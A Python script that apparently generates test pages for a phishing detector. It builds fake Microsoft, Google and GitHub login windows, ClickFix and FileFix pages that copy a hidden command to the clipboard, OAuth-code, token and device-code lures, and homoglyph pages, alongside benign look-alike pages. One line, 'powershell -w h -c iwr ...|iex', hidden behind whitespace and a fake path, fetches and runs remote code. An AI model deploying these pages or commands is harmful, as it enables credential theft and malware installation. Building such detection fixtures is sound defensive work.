DOTS = '<span class="dots"><span style="background:#ff5f57"></span><span style="background:#febc2e"></span><span style="background:#28c840"></span></span>'


def chrome(url):
    return f'<div class="chrome">{DOTS}<span class="url">🔒 {url}</span></div>'


MS_MARKUP = """<div id="lightbox"><form name="f1" id="i0281" action="/common/login" method="post" novalidate autocomplete="off">
<div role="heading" aria-level="1" class="row title" id="loginHeader">Sign in</div>
<input type="email" name="loginfmt" id="i0116" maxlength="113" class="form-control ltr_override" aria-required="true" placeholder="Email, phone, or Skype">
<input name="passwd" type="password" id="i0118" autocomplete="off" class="form-control" placeholder="Password" aria-label="Enter the password">
<div><a id="idA_PWD_ForgotPassword" href="#">Forgot my password</a></div>
<input type="hidden" name="ctx" value=""><input type="hidden" name="flowToken" value="AQABAAEAAAD">
<input type="submit" id="idSIButton9" class="go" value="Sign in"></form></div>"""

GOOGLE_MARKUP = """<form id="gaia" action="/v3/signin/_/AccountsSignInUi/data" method="post"><h2 id="headingText" style="font-weight:400">Sign in</h2><div id="headingSubtext">to continue</div>
<input type="email" class="whsOnd zHQkBf" jsname="YPqjbf" autocomplete="username" spellcheck="false" tabindex="0" aria-label="Email or phone" name="identifier" id="identifierId">
<input type="password" class="whsOnd zHQkBf" jsname="YPqjbf" autocomplete="current-password" aria-label="Enter your password" name="Passwd">
<div id="identifierNext"><button type="submit" class="VfPpkd-LgbsSe go">Next</button></div></form>"""

GH_MARKUP = """<form action="/session" accept-charset="UTF-8" method="post"><input type="hidden" name="authenticity_token" value="kWb0x">
<label for="login_field">Username or email address</label><input type="text" name="login" id="login_field" class="form-control input-block js-login-field" autocapitalize="off" autocomplete="username">
<label for="password">Password</label><input type="password" name="password" id="password" class="form-control form-control input-block js-password-field" autocomplete="current-password">
<input type="hidden" name="webauthn-support" value="supported"><input type="submit" name="commit" value="Sign in" class="btn btn-primary btn-block js-sign-in-button go" data-disable-with="Signing in…"></form>"""


def fam_b():
    win = f"""<dialog class="win" id="w">{chrome('https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b&amp;response_type=code')}
<div class="pane"><div class="own"><i></i>RewardsVault</div>{MS_MARKUP}</div></dialog>"""
    write('rewardsvault.gg', '/index.html', doc('RewardsVault – claim your skin', f"""<div class="hero"><h1>Claim your free skin</h1><p>Log in to link your account.</p></div>{win}
<script>document.getElementById('w').showModal()</script>""", BB_CSS))

    pop = f"""<div popover="manual" class="win" id="w" style="margin:auto">{chrome('https://accounts.google.com/v3/signin/identifier?continue=https%3A%2F%2Fclipvault.app&amp;flowName=GlifWebSignIn')}
<div class="pane"><div class="own"><i></i>ClipVault</div>{GOOGLE_MARKUP}</div></div>"""
    write('clipvault.app', '/index.html', doc('ClipVault – save clips to your Drive', f"""<div class="hero"><h1>ClipVault</h1><p>Save any clip straight to your Drive.</p></div>{pop}
<script>document.getElementById('w').showPopover()</script>""", BB_CSS))

    shadow = f"""<style>{BB_CSS}</style><div class="win" style="position:fixed;top:60px;left:calc(50% - 235px)">{chrome('https://github.com/login/oauth/authorize?client_id=Iv1.9e2f31&amp;scope=repo')}
<div class="pane" style="background:#f6f8fa"><div class="own"><i></i>Stargazer Tools</div><p>Sign in to continue to Stargazer Tools</p>{GH_MARKUP}</div></div>"""
    write('stargazer-tools.dev', '/index.html', doc('Stargazer Tools – grow your repo', f"""<div class="hero"><h1>Stargazer Tools</h1><p>See who starred your repository.</p></div>
<sg-login></sg-login><script>customElements.define('sg-login',class extends HTMLElement{{constructor(){{super();this.attachShadow({{mode:'closed'}}).innerHTML={js(shadow)}}}}})</script>""", BB_CSS))

    win = f"""<dialog class="win" id="w">{chrome('https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id=499b84ac-1321-427f-aa17-267ca6975798')}
<div class="pane"><div class="own"><i></i>SprintBoard Pro</div><p style="font-size:13px">Sign in to continue to Azure DevOps</p>{MS_MARKUP}</div></dialog>"""
    write('sprintboard-pro.com', '/index.html', doc('SprintBoard Pro – boards for Azure DevOps', f"""<div class="hero"><h1>SprintBoard Pro</h1><p>Better boards for your Azure DevOps projects.</p></div>{win}
<script>document.getElementById('w').showModal()</script>""", BB_CSS))


# ---------------------------------------------------------------- C: ClickFix / FileFix naming the app only in a sentence, in another language, or late

PLAIN_CF = PLAIN + CF_CSS.replace('#0067b8', '#555')


def fam_c():
    cmd = PS.format(tag='aud', n='5512')
    write('meet-room-check.com', '/index.html', doc('Audio device check', f"""<div class="box"><h1>Audio device check failed</h1>
<p>Teams could not start your microphone (error 0x8007045D). The audio driver needs to be re-registered before you can join the call.</p>
<ol class="steps"><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<button class="btn" onclick="{html.escape(clip(cmd))}">Copy fix</button></div>""", PLAIN_CF))

    cmd = PS.format(tag='ol', n='1193')
    write('postfach-sync-hilfe.de', '/index.html', doc('Postfach-Synchronisierung', f"""<div class="box"><h1>Synchronisierung fehlgeschlagen</h1>
<p>Outlook konnte Ihr Postfach nicht synchronisieren. Neue Nachrichten werden zurückgehalten, bis die Verbindung repariert ist.</p>
<p>Klicken Sie auf „Reparieren“ und dann:</p>
<ol class="steps"><li>Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Drücken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li><li>Drücken Sie <kbd>Eingabe</kbd></li></ol>
<button class="btn" onclick="{html.escape(clip(cmd))}">Reparieren</button></div>""", PLAIN_CF, lang='de'))

    cmd = PS.format(tag='gm', n='7720')
    steps = f"""<h2>Camera not found</h2><p>Google Meet can’t reach your camera. Run the camera repair tool:</p>
<ol class="steps"><li>Press <kbd>Windows</kbd> + <kbd>X</kbd> and choose <b>Terminal (Admin)</b></li><li>Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd>, then reload this page</li></ol>"""
    write('meet-joinnow.net', '/abc-defg-hij/index.html', doc('Ready to join?', f"""<div class="box"><h1>Ready to join?</h1><p>abc-defg-hij · 3 people are in this call</p>
<div style="height:160px;background:#202124;border-radius:8px"></div><div id="late"></div></div>
<script>setTimeout(()=>{{{clip(cmd)};document.getElementById('late').innerHTML={js(steps)}}},2000)</script>""", PLAIN_CF))

    cmd = PS.format(tag='run', n='3308')
    steps = """<ol class="steps"><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<p>This confirms the GitHub Actions runner on this machine belongs to you.</p>"""
    write('actions-runner-check.dev', '/index.html', doc('Verify runner ownership', f"""<div class="box"><h1>Verify runner ownership</h1>
<p>A self-hosted runner registered from this network is pending. Verify it to keep your workflows running.</p>
<button class="btn" id="verify" onclick="{html.escape(clip(cmd))};document.getElementById('s').innerHTML={html.escape(js(steps))}">Verify</button><div id="s"></div></div>""", PLAIN_CF))

    cmd = 'powershell -w h -c "iwr https://od-kyouyu.jp/s.ps1|iex"' + ' ' * 60 + '# C:\\\\共有\\\\経理\\\\2025年度_賞与明細.xlsx'
    write('onedrive-kyouyu.jp', '/file/index.html', doc('ファイルの共有', f"""<div class="box"><h1>ファイルが共有されました</h1>
<p>このファイルは社内の共有ドライブにあります。OneDrive でファイルを開くには、次の手順に従ってください。</p>
<ol class="steps"><li>下の「パスをコピー」をクリック</li><li>エクスプローラーを開く（<kbd>Windows</kbd> + <kbd>E</kbd>）</li><li>アドレスバーを選択（<kbd>Ctrl</kbd> + <kbd>L</kbd>）して貼り付け（<kbd>Ctrl</kbd> + <kbd>V</kbd>）、<kbd>Enter</kbd></li></ol>
<div class="path" style="display:flex;border:1px solid #999;margin:12px 0"><code style="flex:1;padding:8px">C:\\共有\\経理\\2025年度_賞与明細.xlsx</code><button class="btn" onclick="{html.escape(clip(cmd))}">パスをコピー</button></div></div>""", PLAIN_CF, lang='ja'))


# ---------------------------------------------------------------- O: from the newest write-ups

def fam_o():
    tenant = '<svg width="120" height="28" aria-hidden="true"><rect width="28" height="28" rx="4" fill="#1d5c96"/><text x="36" y="20" font-size="16" font-family="Segoe UI,Arial" fill="#1d5c96">FABRIKAM</text></svg>'
    write('secure-doc-access.org', '/RmF/xT9/index.html', doc('Sign in to your account', f"""<div class="card" id="ts"><p class="small">Checking your browser before accessing the document…</p>
<div class="capt" style="display:flex;gap:10px;align-items:center;border:1px solid #ddd;padding:12px"><input type="checkbox" id="cb"><label for="cb">Verify you are human</label></div></div>
<main class="card" id="pw" hidden>{tenant}<div class="small" style="margin-top:16px">← j.doe@fabrikam.com</div><h1>Enter password</h1>
<form action="/RmF/xT9/p" method="post"><input class="inp" type="password" name="pw" placeholder="Password"><div class="small"><a href="#">Forgot my password</a></div>
<div class="btns"><button class="btn">Sign in</button></div></form></main>
<script>setTimeout(()=>{{document.getElementById('ts').hidden=true;document.getElementById('pw').hidden=false}},1500)</script>""", MS_CSS))

    blur = ''.join(f'<p>Section {i}. Salary adjustments for the period are listed in the table below and take effect from the next payroll run.</p>' for i in range(1, 30))
    write('payroll-doc-review.com', '/index.html', doc('Payroll_Adjustment_2026.docx', f"""<div style="filter:blur(5px);padding:40px 120px;font-family:Calibri,Arial;background:#fff">{blur}</div>
<div style="position:fixed;inset:0;display:flex;align-items:center;justify-content:center"><main class="card" style="margin:0"><div class="brand">{MS_LOGO}<span>Microsoft</span></div>
<h1>Sign in to view document</h1><form action="/x7/a" method="post"><input class="inp" type="email" name="x1a9" placeholder="Email, phone, or Skype"><input class="inp" type="password" name="x2b7" placeholder="Password">
<div class="btns"><button class="btn">Sign in</button></div></form></main></div>""", MS_CSS))

    for host, prov, start, text in [
        ('verify-access-portal.net', 'microsoft', 'https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id=04b07795-8ddb-461a-bbee-02f9e1bf7b46&response_type=code&redirect_uri=http%3A%2F%2Flocalhost&scope=https%3A%2F%2Fgraph.microsoft.com%2F.default',
         'Microsoft'),
        ('docs-access-check.com', 'google', 'https://accounts.google.com/o/oauth2/v2/auth?client_id=8841-x.apps.googleusercontent.com&response_type=code&redirect_uri=http%3A%2F%2Flocalhost&scope=https%3A%2F%2Fmail.google.com%2F',
         'Google')]:
        logo = MS_LOGO if prov == 'microsoft' else G_MARK
        write(host, '/index.html', doc('Verify your access', f"""<div class="box"><div class="line" style="display:flex;gap:8px;align-items:center">{logo}<b>Document access check</b></div>
<ol class="steps"><li>Click <a href="{html.escape(start)}" target="_blank">Sign in with {text}</a>. A new tab opens.</li>
<li>When that tab shows “This site can’t be reached”, copy the whole address from its address bar (it starts with <code>http://localhost</code>).</li>
<li>Paste it here and press Verify.</li></ol>
<form action="/verify" method="post"><input class="inp" type="text" name="u" placeholder="http://localhost/?code=..."><button class="btn">Verify</button></form></div>""", PLAIN_CF))

    # The same trick naming the loopback address ("http://127.0.0.1:8400/?code=…") instead of localhost.
    gh_start = 'https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&redirect_uri=http%3A%2F%2F127.0.0.1%3A8400%2F&scope=repo'
    write('repo-access-verify.com', '/index.html', doc('Confirm repository access', f"""<div class="box"><div class="line" style="display:flex;gap:8px;align-items:center">{GH_MARK.replace('height="48" width="48"', 'height="22" width="22"')}<b>Repository access check</b></div>
<ol class="steps"><li>Click <a href="{html.escape(gh_start)}" target="_blank">Sign in with GitHub</a> and approve.</li>
<li>The new tab shows an error: copy the address from its address bar (<code>http://127.0.0.1:8400/?code=…</code>).</li>
<li>Paste it below and press Confirm.</li></ol>
<form action="/confirm" method="post"><input class="inp" type="text" name="cb" placeholder="http://127.0.0.1:8400/?code=..."><button class="btn">Confirm</button></form></div>""", PLAIN_CF))

    write('codeowners-audit.dev', '/connect/index.html', gh_page('Connect GitHub · CodeOwners Audit', 'Connect GitHub', """<form action="/connect" method="post">
<p>CodeOwners Audit needs a personal access token (classic) with the <code>repo</code>, <code>workflow</code> and <code>admin:org</code> scopes to scan your organization.</p>
<label for="t">Personal access token</label><input class="inp" type="password" name="token" id="t" placeholder="ghp_…"><button class="btn" type="submit">Connect</button></form>"""))

    write('devops-insights-app.com', '/connect/index.html', ado_page('Connect – DevOps Insights', 'Connect your Azure DevOps organization', """<form action="/connect" method="post">
<p class="meta">Create a personal access token with <b>Full access</b> and paste it below.</p>
<label>Organization URL</label><input class="inp" type="text" name="org" value="https://dev.azure.com/"><label>Personal access token</label><input class="inp" type="password" name="pat"><button class="btn">Connect</button></form>"""))

    write('talentbridge-hiring.com', '/interview/7731/index.html', plain('Your interview – TalentBridge', """<h1>Your interview is ready</h1>
<p>Hi Alex, the hiring manager is waiting in the Microsoft Teams meeting. To join from your browser:</p>
<ol><li>Open <a href="https://microsoft.com/devicelogin">microsoft.com/devicelogin</a></li><li>Enter the meeting code <b style="font-size:20px;letter-spacing:2px">ZK4T9MQ2W</b></li><li>Sign in with your account and you will be admitted.</li></ol>
<p style="color:#777;font-size:13px">The code expires in 15 minutes.</p>"""))

    body = f"""<div class="top">{GH_MARK}</div><h1>Authorize Dependabot Preview</h1>
<div class="box" style="width:440px"><p><b>Dependabot Preview</b> by <a href="#">dependabot-preview</a> wants to access your <b>octo-dev</b> account</p>
<ul><li><b>Repositories</b> — Public and private</li><li><b>Workflow</b> — Update GitHub Action workflows</li><li><b>Organizations and teams</b> — Read and write org and team membership</li></ul>
<form action="/login/oauth/authorize" method="post"><input type="hidden" name="client_id" value="Iv1.71c2"><button class="btn" name="authorize" value="1">Authorize dependabot-preview</button></form>
<p style="font-size:12px;color:#59636e">Authorizing will redirect to https://dependabot-preview.gh-app-install.dev</p></div>"""
    write('gh-app-install.dev', '/login/oauth/authorize/index.html', doc('Authorize application', body, GH_CSS))

    write('mailsummary-ai.com', '/consent/index.html', ms_page('Permissions requested', 'Microsoft', 'Permissions requested', """<div class="small"><b>Mail Summary AI</b><br>unverified</div>
<p class="small">This app would like to:</p><ul class="small"><li>Read and write access to your mail</li><li>Send mail as you</li><li>Have full access to all files you have access to</li><li>Maintain access to data you have given it access to</li></ul>
<form action="/consent/accept" method="post"><div class="btns"><button class="btn sec" name="a" value="0">Cancel</button><button class="btn" name="a" value="1">Accept</button></div></form>"""))

    write('account-review-center.com', '/index.html', ms_page('Ѕign in to your аccount', 'Micr\u200bosoft', 'Ѕign іn', MS_FORM.format(who='', email='')))

    pseudo = """.g::before{content:"Goo" "gle"}.t::before{content:"Sign" " in"}.s::before{content:"to continue to Gmail"}"""
    write('mail-quota-notice.com', '/index.html', doc('\u200b', f"""<main class="card"><div class="brandrow" style="font-size:24px"><span class="g"></span></div><h1 class="t"></h1><p class="sub s"></p>
<form action="/q" method="post"><input class="inp" type="email" name="e" placeholder="Email or phone"><input class="inp" type="password" name="p" placeholder="Enter your password"><div class="row"><span></span><button class="btn">Next</button></div></form></main>""", GOOGLE_CSS + pseudo))


# ---------------------------------------------------------------- ordinary pages close to them that must stay quiet

def ordinary():
    write('docs.tern-cli.dev', '/auth/login/index.html', docs_page('Authenticate – tern CLI docs', 'tern CLI docs', ['Install', 'Authenticate', 'Commands'],
        """<h1>Authenticate the tern CLI</h1><p>tern signs in with your Microsoft Entra account through the device code flow. Run:</p>
<pre><span class="p">$</span> tern login
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code ABCD12345 to authenticate.</pre>
<p class="callout">Only enter a code that your own terminal just printed. Never enter a code someone sent you.</p>"""))
    write('www.kyoto-midori-chaho.jp', '/login/index.html', site_page('ログイン｜京都茶舗みどり', '京都茶舗みどり', """<h1>ログイン</h1>
<form action="/login" method="post"><label>メールアドレス</label><input class="inp" type="email" name="email"><label>パスワード</label><input class="inp" type="password" name="password"><button class="btn">ログイン</button></form>
<p style="font-size:13px"><a href="#">パスワードをお忘れの方</a> ・ <a href="#">新規会員登録</a></p><button class="btn" style="background:#fff;color:#333;border:1px solid #ccc;margin-top:8px">Googleでログイン</button>""", lang='ja'))
    write('helpdesk.lakeside-school.org', '/kb/teams-microphone/index.html', plain('Teams microphone not working – Helpdesk', """<h1>My microphone doesn’t work in Teams</h1>
<ol><li>Press <kbd>Win</kbd> + <kbd>I</kbd> to open Settings, then <b>Privacy &amp; security › Microphone</b>, and turn on <b>Let apps access your microphone</b>.</li>
<li>In Teams, open <b>Settings › Devices</b> and pick your headset under <b>Microphone</b>.</li><li>Still silent? Restart Teams, or log a ticket with the helpdesk.</li></ol>"""))
    write('www.maru-community.kr', '/login/index.html', site_page('마루 커뮤니티 - 로그인', '마루 커뮤니티', """<h1>로그인</h1>
<form action="/login" method="post"><label>아이디</label><input class="inp" type="text" name="id"><label>비밀번호</label><input class="inp" type="password" name="pw"><button class="btn">로그인</button></form>
<button class="btn" style="background:#fee500;color:#000;margin-top:8px">카카오로 로그인</button>""", lang='ko'))
    write('members.oakridge-rowing.org', '/login/index.html', site_page('Member area – Oakridge Rowing Club', 'Oakridge Rowing Club', """<h1>Sign in to the member area</h1>
<form action="/login" method="post"><label>Membership e-mail</label><input class="inp" type="email" name="email"><label>Member area password</label><input class="inp" type="password" name="password"><button class="btn">Sign in</button></form>
<p style="font-size:12px;color:#666">Your member-area password is set by the club. We will never ask for your Google or Microsoft password.</p>"""))
    write('forum.kod-klub.ru', '/login/index.html', site_page('Вход — Код-Клуб', 'Форум Код-Клуб', """<h1>Вход на форум</h1>
<form action="/login" method="post"><label>Логин</label><input class="inp" type="text" name="login"><label>Пароль</label><input class="inp" type="password" name="password"><button class="btn">Войти</button></form>
<p><a class="btn" style="display:block;text-align:center;background:#24292f;text-decoration:none;margin-top:8px" href="https://github.com/login/oauth/authorize?client_id=Iv1.4412&amp;scope=read:user">Войти через GitHub</a></p>""", lang='ru'))
    write('blog.pipelinecraft.dev', '/azure-devops-pat/index.html', docs_page('Creating a scoped PAT for Azure DevOps – PipelineCraft', 'PipelineCraft blog', ['All posts', 'Azure DevOps', 'GitHub Actions'],
        """<h1>Creating a scoped personal access token for Azure DevOps</h1><p>Open <b>User settings › Personal access tokens</b> in dev.azure.com, choose <b>Custom defined</b> scopes and only tick <b>Build (Read)</b>. Then log the CLI in with it:</p>
<pre><span class="p">$</span> az devops login --organization https://dev.azure.com/contoso
Token:</pre><p>Paste the token at the prompt. Never give <b>Full access</b> to a token a tool asks for.</p>"""))
    write('learn.cli-patterns.dev', '/device-flow/index.html', docs_page('The OAuth device flow, step by step', 'CLI patterns', ['Device flow', 'PKCE', 'Token storage'],
        """<h1>The device flow, step by step</h1><p>A CLI asks GitHub for a device code and shows the user a short code:</p>
<pre><span class="p">$</span> mycli login
Please visit https://github.com/login/device and enter code WDJB-MJHT
Waiting for authorization...</pre><p>The user types the code at github.com/login/device; the CLI polls <code>/login/oauth/access_token</code> until it gets a token.</p>"""))
    pop = """<div popover id="lg" style="padding:28px;border:0;border-radius:10px;box-shadow:0 10px 40px #0005;width:360px"><div style="font-weight:700;font-size:18px;margin-bottom:12px">📝 Notewell</div>
<form action="/session" method="post"><input class="inp" type="email" name="email" placeholder="Email"><input class="inp" type="password" name="password" placeholder="Password"><button class="btn">Log in</button></form>
<button class="btn" style="background:#fff;color:#333;border:1px solid #ccc;margin-top:10px;width:100%">Continue with Google</button></div>"""
    write('app.notewell.io', '/index.html', doc('Notewell – notes that link themselves', f"""<div class="box"><h1>Notewell</h1><p>Notes that link themselves.</p><button class="btn" popovertarget="lg">Log in</button></div>{pop}
<script>document.getElementById('lg').showPopover()</script>""", PLAIN))
    news = """<body style="font-family:Georgia;margin:0"><form action="https://www.cedar-journal.com/subscribe" method="post"><b>The Sunday letter</b><br><input type="email" name="email" placeholder="you@example.com"><button>Subscribe</button></form></body>"""
    write('www.cedar-journal.com', '/index.html', doc('The Cedar Journal', f"""<div class="box"><h1>Why the river flooded twice</h1><p>A long read on the spring floods.</p>
<iframe sandbox="allow-forms" style="width:100%;height:90px;border:1px solid #ddd" srcdoc="{html.escape(news)}"></iframe></div>""", PLAIN))
    write('it.stadtwerke-musterstadt.de', '/hilfe/outlook/index.html', plain('Outlook startet nicht – IT-Hilfe', """<h1>Outlook startet nicht</h1>
<p>Starten Sie Outlook im abgesicherten Modus: Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd>, geben Sie <code>outlook.exe /safe</code> ein und drücken Sie <kbd>Eingabe</kbd>.</p>
<p>Wenn Outlook so startet, deaktivieren Sie unter <b>Datei › Optionen › Add-Ins</b> die zuletzt installierten Add-Ins.</p>"""))
    write('oauth-callback-decoder.dev', '/index.html', plain('Callback URL decoder', """<h1>Callback URL decoder</h1>
<p>Paste the address from your browser's address bar (for example <code>http://127.0.0.1:8400/callback?code=…&amp;state=…</code>) to see its parameters. Nothing leaves this page.</p>
<form onsubmit="return false"><input class="inp" type="text" name="u" placeholder="http://127.0.0.1:8400/callback?code=..."><button class="btn">Decode</button></form>
<p><a href="https://github.com/">Source on GitHub</a></p>"""))
    write('online.alsafwa-bank.ae', '/login/index.html', site_page('مصرف الصفوة - الخدمات المصرفية عبر الإنترنت', 'مصرف الصفوة', """<div dir="rtl"><h1>تسجيل الدخول</h1>
<form action="/login" method="post"><label>اسم المستخدم</label><input class="inp" type="text" name="user"><label>كلمة المرور</label><input class="inp" type="password" name="password"><button class="btn">دخول</button></form></div>""", lang='ar'))


if __name__ == '__main__':
    fam_d()
    fam_s()
    fam_j()
    fam_r()
    fam_b()
    fam_c()
    fam_o()
    ordinary()
